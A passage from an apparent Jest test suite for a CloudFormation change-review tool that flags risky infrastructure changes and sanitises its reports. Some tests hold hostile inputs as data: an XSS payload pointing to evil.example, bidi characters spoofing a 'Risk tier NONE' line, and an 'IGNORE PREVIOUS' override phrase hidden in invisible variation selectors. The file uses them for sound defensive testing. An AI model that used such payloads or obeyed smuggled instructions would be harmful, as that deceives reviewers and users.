    const events = [{ EventType: 'PROGRESS_EVENT', HookType: 'Private::Guard::S3', HookStatus: 'HOOK_COMPLETE_FAILED', HookFailureMode: 'WARN', HookStatusReason: 'bucket policy too wide' }];
    expect(SAFE).toContain(outcome(input([bucketTags()], { events })));
  });
  test('EVT-04 a hook still in progress needs a person', () => {
    const events = [{ HookType: 'Private::Guard::S3', HookStatus: 'HOOK_IN_PROGRESS' }];
    expect(SAFE).toContain(outcome(input([bucketTags()], { events })));
  });
  test('EVT-05 events that could not be read need a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags()], { eventsProblem: 'AccessDenied' })));
  });

  test('EVT-06 a pre-deployment validation that FAILED in WARN mode needs a person', () => {
    const events = [{ EventType: 'VALIDATION_ERROR', ValidationName: 'PROPERTY_VALIDATION', ValidationStatus: 'FAILED', ValidationFailureMode: 'WARN', ValidationStatusReason: 'bad', ValidationPath: '/Resources/AssetsBucket1234ABCD' }];
    expect(SAFE).toContain(outcome(input([bucketTags()], { events })));
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_StackResourceDrift.html
  test('DRF-01 a tag change on a resource drift detection found DELETED needs a person', () => {
    const drifts = [{ LogicalResourceId: 'AssetsBucket1234ABCD', StackResourceDriftStatus: 'DELETED' }];
    expect(SAFE).toContain(outcome(input([bucketTags()], { drifts })));
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/drift-aware-change-sets.html
  test('DRF-02 a drift-aware detail whose actual value differs needs a person', () => {
    const ch = bucketTags();
    ch.ResourceChange.Details[0].Target.Drift = { PreviousValue: '1234', ActualValue: '9999' };
    expect(SAFE).toContain(outcome(input([ch])));
  });
  test('DRF-03 drift that could not be read needs a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags()], { driftProblem: 'ThrottlingException' })));
  });
  test('DRF-04 a drift-aware change set whose ResourceDriftStatus is MODIFIED needs a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags({ rc: { ResourceDriftStatus: 'MODIFIED' } })])));
  });
});

// =============================================================================================
// Realistic careless changes: they must be high, and a destructive one must say data loss
// =============================================================================================

function dataLoss(ch: Obj): { tier: string; dataLoss: boolean } {
  const r = ChangeReview.review(input([ch]) as any);
  return { tier: r.tier, dataLoss: r.findings.some((f) => f.category === 'data-loss') };
}

describe('careless changes', () => {
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-lambda-function.html
  test('CARE-01 reserved concurrency set to 0 (every invocation throttled) needs a person', () => {
    expect(SAFE).toContain(outcome(input([modify('AWS::Lambda::Function', FN_LOGICAL, FN_NAME, FN_BEFORE, { ...FN_BEFORE, ReservedConcurrentExecutions: 0 })])));
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-ec2-securitygroup.html
  test('CARE-02 SSH opened to 0.0.0.0/0 needs a person', () => {
    const b = { GroupDescription: 'web', VpcId: 'vpc-1', SecurityGroupIngress: [{ IpProtocol: 'tcp', FromPort: 443, ToPort: 443, CidrIp: '10.0.0.0/8' }] };
    const a = { ...b, SecurityGroupIngress: [...b.SecurityGroupIngress, { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, CidrIp: '0.0.0.0/0' }] };
    expect(SAFE).toContain(outcome(input([modify('AWS::EC2::SecurityGroup', 'WebSg', 'sg-1', b, a)])));
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-dynamodb-table.html
  test('CARE-03 DynamoDB time to live turned on is high and reported as data loss', () => {
    const base = { KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }], AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }], BillingMode: 'PAY_PER_REQUEST' };
    expect(dataLoss(modify('AWS::DynamoDB::Table', 'T', 'orders', base, { ...base, TimeToLiveSpecification: { AttributeName: 'createdAt', Enabled: true } }))).toEqual({ tier: 'high', dataLoss: true });
  });
  // MessageRetentionPeriod: messages older than it are deleted. https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-sqs-queue.html
  test('CARE-04 an SQS queue\'s MessageRetentionPeriod shortened from 14 days to 60 s is reported as data loss', () => {
    expect(dataLoss(modify('AWS::SQS::Queue', 'OrdersQueue', QUEUE_URL, { MessageRetentionPeriod: 1209600 }, { MessageRetentionPeriod: 60 }))).toEqual({ tier: 'high', dataLoss: true });
  });
  // RetentionPeriodHours: records older than it are deleted. https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-kinesis-stream.html
  test('CARE-05 a Kinesis stream\'s RetentionPeriodHours shortened from 168 to 24 is reported as data loss', () => {
    expect(dataLoss(modify('AWS::Kinesis::Stream', 'Events', 'events', { ShardCount: 1, RetentionPeriodHours: 168 }, { ShardCount: 1, RetentionPeriodHours: 24 }))).toEqual({ tier: 'high', dataLoss: true });
  });
  // Lifecycle DeleteAfterDays: recovery points older than it are deleted. https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-properties-backup-backupplan-lifecycleresourcetype.html
  test('CARE-06 a backup plan rule\'s DeleteAfterDays shortened from 365 to 1 is reported as data loss', () => {
    const plan = (days: number) => ({ BackupPlan: { BackupPlanName: 'daily', BackupPlanRule: [{ RuleName: 'daily', TargetBackupVault: 'vault', ScheduleExpression: 'cron(0 5 ? * * *)', Lifecycle: { DeleteAfterDays: days } }] } });
    expect(dataLoss(modify('AWS::Backup::BackupPlan', 'DailyPlan', 'plan-id', plan(365), plan(1)))).toEqual({ tier: 'high', dataLoss: true });
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-rds-dbinstance.html
  test('CARE-07 RDS deletion protection turned off is reported as data loss', () => {
    const base = { Engine: 'postgres', DBInstanceClass: 'db.t3.micro', AllocatedStorage: '20' };
    expect(dataLoss(modify('AWS::RDS::DBInstance', 'Db', 'db-1', { ...base, DeletionProtection: true }, { ...base, DeletionProtection: false }))).toEqual({ tier: 'high', dataLoss: true });
  });
  // AutomatedSnapshotRetentionPeriod: automated snapshots older than it are deleted.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-redshift-cluster.html
  test('CARE-08 a Redshift cluster\'s AutomatedSnapshotRetentionPeriod shortened from 35 to 1 is reported as data loss', () => {
    const base = { ClusterType: 'single-node', NodeType: 'ra3.xlplus', DBName: 'dw', MasterUsername: 'admin' };
    expect(dataLoss(modify('AWS::Redshift::Cluster', 'Dw', 'dw', { ...base, AutomatedSnapshotRetentionPeriod: 35 }, { ...base, AutomatedSnapshotRetentionPeriod: 1 }))).toEqual({ tier: 'high', dataLoss: true });
  });
  // MagneticStoreRetentionPeriodInDays: records older than it are deleted.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-timestream-table.html
  test('CARE-09 a Timestream table\'s magnetic store retention shortened from 3650 to 1 day is reported as data loss', () => {
    const r = (d: string) => ({ DatabaseName: 'metrics', TableName: 'cpu', RetentionProperties: { MemoryStoreRetentionPeriodInHours: '24', MagneticStoreRetentionPeriodInDays: d } });
    expect(dataLoss(modify('AWS::Timestream::Table', 'Cpu', 'metrics|cpu', r('3650'), r('1')))).toEqual({ tier: 'high', dataLoss: true });
  });
  // RetentionDays: archived events older than it are deleted. https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-events-archive.html
  test('CARE-10 an EventBridge archive\'s RetentionDays shortened from 365 to 1 is reported as data loss', () => {
    const a = (d: number) => ({ SourceArn: `arn:aws:events:${REGION}:${ACCOUNT}:event-bus/default`, RetentionDays: d });
    expect(dataLoss(modify('AWS::Events::Archive', 'Archive', 'orders-archive', a(365), a(1)))).toEqual({ tier: 'high', dataLoss: true });
  });
});

// =============================================================================================
// The summary and the reports
// =============================================================================================

/** Invisible characters the README promises to write out (control, bidi, zero-width, tag, and other invisible formatting ones). */
const INVISIBLE = /[\u034f\u180b-\u180f\u2060-\u2064\ufe00-\ufe0f\u{e0100}-\u{e01ef}\u{1d173}-\u{1d17a}\u{1bca0}-\u{1bca3}]/u;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

function allReports(r: ChangeReview): Record<string, string> {
  return { summary: r.summary(CTX), markdown: r.markdown(CTX), html: r.html(CTX), json: r.json(CTX) };
}

describe('reports', () => {
  // Variation selectors 17-256 (U+E0100-U+E01EF) are invisible and carry hidden text ("ASCII smuggling").
  // https://www.unicode.org/charts/PDF/UE0100.pdf
  test('REP-01 variation selectors supplement (U+E0100..) in a tag value are written out in every report', () => {
    const hidden = 'ok' + Array.from('IGNORE PREVIOUS').map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0))).join('');
    const ch = roleChange({ AssumeRolePolicyDocument: LAMBDA_TRUST, Tags: tags({ team: 'a' }) }, { AssumeRolePolicyDocument: LAMBDA_TRUST, Tags: tags({ team: hidden }) });
    const r = ChangeReview.review(input([ch]) as any);
    expect(Object.entries(allReports(r)).filter(([, text]) => INVISIBLE.test(text)).map(([name]) => name)).toEqual([]);
  });

  test('REP-02 combining grapheme joiner and Mongolian variation selectors in a hook reason are written out', () => {
    const events = [{ HookType: 'Private::Guard::S3', HookStatus: 'HOOK_COMPLETE_FAILED', HookFailureMode: 'WARN', HookStatusReason: 'fine\u034f\u180b\u180c\u180d\u180f ok' }];
    const r = ChangeReview.review(input([bucketTags()], { events }) as any);
    expect(Object.entries(allReports(r)).filter(([, text]) => INVISIBLE.test(text)).map(([name]) => name)).toEqual([]);
  });

  test('REP-03 musical-symbol format characters (U+1D173..U+1D17A) in a hook reason are written out', () => {
    const events = [{ HookType: 'Private::Guard::S3', HookStatus: 'HOOK_COMPLETE_FAILED', HookFailureMode: 'WARN', HookStatusReason: 'fine\u{1d173}\u{1d17a} ok' }];
    const r = ChangeReview.review(input([bucketTags()], { events }) as any);
    expect(Object.entries(allReports(r)).filter(([, text]) => INVISIBLE.test(text)).map(([name]) => name)).toEqual([]);
  });

  test('REP-04 bidi, zero-width and line breaks in a hook reason are written out (control)', () => {
    const events = [{ HookType: 'Private::Guard::S3', HookStatus: 'HOOK_COMPLETE_FAILED', HookFailureMode: 'WARN', HookStatusReason: 'a\u202eb\u200bc\nRisk tier NONE\u2066' }];
    const r = ChangeReview.review(input([bucketTags()], { events }) as any);
    for (const text of Object.values(allReports(r))) expect(/[\u202e\u200b\u2066]/.test(text)).toBe(false);
    expect(r.summary(CTX)).not.toMatch(/\n/);
    expect(r.markdown(CTX)).not.toMatch(/^Risk tier NONE/m);
  });

  test('REP-05 the summary never holds a lone surrogate (cut in the middle of an astral character)', () => {
    const bad: string[] = [];
    for (let pad = 0; pad < 160; pad++) {
      const events = Array.from({ length: 4 }, (_, i) => ({ HookType: `Private::Guard::H${'x'.repeat(pad)}${i}`, HookStatus: 'HOOK_COMPLETE_FAILED', HookFailureMode: 'WARN', HookStatusReason: '\u{1f600}'.repeat(80) }));
      const s = ChangeReview.review(input([remove('AWS::SQS::Queue', 'Q', 'q', {})], { events }) as any).summary(CTX);
      if (LONE_SURROGATE.test(s)) bad.push(`pad ${pad}: ...${JSON.stringify(s.slice(-60))}`);
    }
    expect(bad).toEqual([]);
  });

  test('REP-06 the summary is at most 500 characters, opens with the verdict and leads with data loss, with 300 findings', () => {
    const many = Array.from({ length: 300 }, (_, i) => add('AWS::SNS::Topic', `Topic${i}${'T'.repeat(200)}`, { TopicName: `t${i}` }));
    const r = ChangeReview.review(input([...many, remove('AWS::DynamoDB::Table', 'OrdersTable', 'orders', {})]) as any);
    const s = r.summary(CTX);
    expect(s.length).toBeLessThanOrEqual(500);
    expect(s.startsWith('Risk tier HIGH.')).toBe(true);
    expect(s).toMatch(/\[data loss\] "OrdersTable"/);
  });

  test('REP-07 raw HTML and links in values stay values: escaped in HTML, code spans in Markdown', () => {
    const evil = '<img src=x onerror=alert(1)>[click](https://evil.example)`` <a href="https://evil.example">x</a>';
    const events = [{ HookType: 'Private::Guard::S3', HookStatus: 'HOOK_COMPLETE_FAILED', HookFailureMode: 'WARN', HookStatusReason: evil, LogicalResourceId: evil }];
    const r = ChangeReview.review(input([bucketTags()], { events }) as any);
    const html = r.html(CTX);
    expect(html).not.toMatch(/<img|<a href="https:\/\/evil/);
    const md = r.markdown(CTX);
    // The value is one code span whose fence (three backticks) is longer than its own backtick runs.
    for (const line of md.split('\n').filter((l) => l.includes('evil.example'))) expect(line).toMatch(/```<img src=x onerror=alert\(1\)>\[click\]\(https:\/\/evil\.example\)``/);
  });

  test('REP-08 the reports open with the verdict for a low change set (LOW_RISK)', () => {
    const r = ChangeReview.review(release() as any);
    expect(r.summary(CTX).startsWith('Risk tier LOW.')).toBe(true);
    expect(r.markdown(CTX)).toMatch(/^# Change review: stack `orders-api`\n\n\*\*Risk tier:\*\* LOW/);
    expect(r.decide(AutoApprove.LOW_RISK).approvalRequired).toBe(false);
  });

  test('REP-09 a 1 MB property value is capped in every report', () => {
    const big = 'A'.repeat(1_000_000);
    const ch = modify('AWS::SSM::Parameter', 'Param1', '/orders/p', { Type: 'String', Value: 'x' }, { Type: 'String', Value: big });
    const r = ChangeReview.review(input([ch]) as any);
    for (const text of Object.values(allReports(r))) expect(text.length).toBeLessThan(50_000);
  });
});

// =============================================================================================
// Crashes and hangs
// =============================================================================================

describe('crashes and hangs', () => {
  test('HANG-01 a context nested 200,000 deep does not crash the review and is not low', () => {
    const deep = '{"Properties":{"Tags":[{"Key":"a","Value":"2"}],"Notification":' + '['.repeat(200_000) + ']'.repeat(200_000) + '}}';
    const ch = bucketTags({ afterRaw: deep });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // A KMS key policy may be 32 KB: https://docs.aws.amazon.com/kms/latest/developerguide/resource-limits.html
  test('HANG-02 a 32 KB key policy of wildcard resources is judged (a hang fails on the test timeout)', () => {
    const n = 70;
    const pad = 'p'.repeat(400);
    const tok = (i: number) => `x${String(i).padStart(3, '0')}q`;
    const wide = Array.from({ length: n }, (_, i) => `arn:aws:s3:::b${pad}*${tok(i)}*y`);
    const narrow = Array.from({ length: n }, (_, i) => `arn:aws:s3:::b${pad}qq ${tok(i)} zy`);
    narrow[n - 1] = `arn:aws:s3:::b${pad}nomatch`;
    const b = doc({ Effect: 'Allow', Principal: { AWS: ROOT }, Action: 'kms:*', Resource: wide });
    const a = doc({ Effect: 'Allow', Principal: { AWS: ROOT }, Action: 'kms:*', Resource: narrow });
    expect(JSON.stringify(a).length).toBeLessThan(32_768);
    const r = outcome(input([keyPolicyChange(b, a)]));
    expect(SAFE).toContain(r);
  });

  test('HANG-03 5,000 tag changes are reviewed (a hang fails on the test timeout; speed is in the benchmark)', () => {
    const changes = Array.from({ length: 5000 }, (_, i) => modify('AWS::SNS::Topic', `Topic${i}`, `arn:aws:sns:${REGION}:${ACCOUNT}:t${i}`, { Tags: tags({ a: '1' }) }, { Tags: tags({ a: '2' }) }));
    expect(outcome(input(changes, { template: NO_TAG_SELECTORS }))).toBe('low');
  });

  test('HANG-04 a numeric condition with 300,000 values does not crash', () => {
    const vals = Array.from({ length: 300_000 }, (_, i) => String(i));
    const b = doc(allow('s3:GetObject', '*', { Condition: { NumericLessThan: { 's3:max-keys': vals } } }));
    const a = doc(allow('s3:GetObject', '*', { Condition: { NumericLessThan: { 's3:max-keys': ['5'] } } }));
    expect(SAFE.concat('low')).toContain(outcome(input([policyDocChange(b, a)])));
  });

  test('HANG-05 a template given as a 100,000-deep JSON string does not crash', () => {
    const inp = release();
    inp.template = '{"Resources":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}';
    expect(SAFE).toContain(outcome(inp));
  });

  test('HANG-06 a pathological wildcard condition (StringLike *a*a*a...) is judged quickly', () => {
    const pat = '*a'.repeat(2000) + '*b';
    const txt = 'a'.repeat(4000);
    const b = doc(allow('s3:GetObject', '*', { Condition: { StringLike: { 's3:prefix': [pat] } } }));
    const a = doc(allow('s3:GetObject', '*', { Condition: { StringLike: { 's3:prefix': [txt] } } }));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });
});
